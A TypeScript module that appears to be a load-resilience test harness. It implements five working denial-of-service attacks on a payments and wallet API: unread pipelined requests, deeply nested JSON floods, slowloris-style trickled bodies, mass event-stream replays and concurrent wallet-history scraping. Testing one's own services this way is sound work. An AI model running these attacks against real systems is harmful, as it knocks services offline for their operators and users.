import { connect, type Socket } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";

/** What an attacker knows: the server's address, and the tokens of a staff session and of a wallet's user. */
export type Target = { readonly url: string; readonly staffToken: string; readonly userToken: string };

const RECONNECT_MS = 100;
const PIPELINED = { connections: 8, requests: 200 } as const;
const NESTED = { perSecond: 26, bytes: 942_000 } as const;
const TRICKLED = { connections: 500, eachMs: 1_000 } as const;
const STREAMS = 500;
const READERS = 14;

/** Each attack runs until its process is ended. Each uses only what a single caller has. */
export const attacks = {
  /** Requests a large answer again and again over the same connections, and reads none of it. */
  async pipelined({ url }: Target) {
    const requests = head("GET", "/openapi.json", url).repeat(PIPELINED.requests);
    await keepOpen(url, PIPELINED.connections, (socket) => {
      socket.pause();
      const send = () => {
        while (socket.writable && socket.write(requests));
      };
      socket.on("drain", send);
      send();
    });
  },
  /** Sends deeply nested JSON to an address that doesn't exist. */
  async nested({ url }: Target) {
    const body = `${"[".repeat(NESTED.bytes / 2)}${"]".repeat(NESTED.bytes / 2)}`;
    const headers = {
      "content-type": "application/json",
      "content-length": Buffer.byteLength(body),
      connection: "close",
    };
    const request = `${head("POST", "/nothing/here", url, headers)}${body}`;
    for (;;) {
      open(url).end(request);
      await sleep(1_000 / NESTED.perSecond);
    }
  },
  /** Begins many requests and sends their bodies byte by byte. */
  async trickled({ url }: Target) {
    await keepOpen(url, TRICKLED.connections, (socket) => {
      socket
        .resume()
        .write(
          head("POST", "/payments", url, { "content-type": "application/json", "content-length": 60_000 }),
        );
      const timer = setInterval(() => socket.write(" "), TRICKLED.eachMs);
      socket.once("close", () => clearInterval(timer));
    });
  },
  /** Opens many event streams with one session, each from the beginning of all events. */
  async streams({ url, staffToken }: Target) {
    await keepOpen(
      url,
      STREAMS,
      (socket) =>
        void socket.resume().write(
          head("GET", "/api/v1/till/events", url, {
            authorization: `Bearer ${staffToken}`,
            "last-event-id": "0-0",
          }),
        ),
    );
  },
  /** Reads the history of a wallet that has 50,000 entries, page by page. */
  async history({ url, userToken }: Target) {
    await Promise.all(
      Array.from({ length: READERS }, async () => {
        for (;;)
          await fetch(`${url}/api/v1/wallet/history`, { headers: { authorization: `Bearer ${userToken}` } })
            .then((answer) => answer.text())
            .catch(() => sleep(RECONNECT_MS));
      }),
    );
  },
} as const;

export type AttackName = keyof typeof attacks;

function head(
  method: string,
  path: string,
  url: string,
  headers: Readonly<Record<string, string | number>> = {},
): string {
  return `${method} ${path} HTTP/1.1\r\nhost: ${new URL(url).host}\r\n${Object.entries(headers)
    .map(([name, value]) => `${name}: ${value}\r\n`)
    .join("")}\r\n`;
}

function open(url: string): Socket {
  const { hostname, port } = new URL(url);
  const socket = connect(Number(port), hostname);
  socket.on("error", () => undefined);
  return socket;
}

/** Keeps this many connections open; a connection that the server closes is reopened. */
async function keepOpen(url: string, connections: number, begin: (socket: Socket) => void): Promise<never> {
  const start = () => {
    const socket = open(url);
    socket.once("connect", () => begin(socket));
    socket.once("close", () => setTimeout(start, RECONNECT_MS));
  };
  for (let n = 0; n < connections; n++) start();
  for (;;) await sleep(60_000);
}

if (process.argv[2] !== undefined && process.send !== undefined) {
  process.once("disconnect", () => process.exit());
  const [name, target] = JSON.parse(process.argv[2]) as [AttackName, Target];
  await attacks[name](target);
}
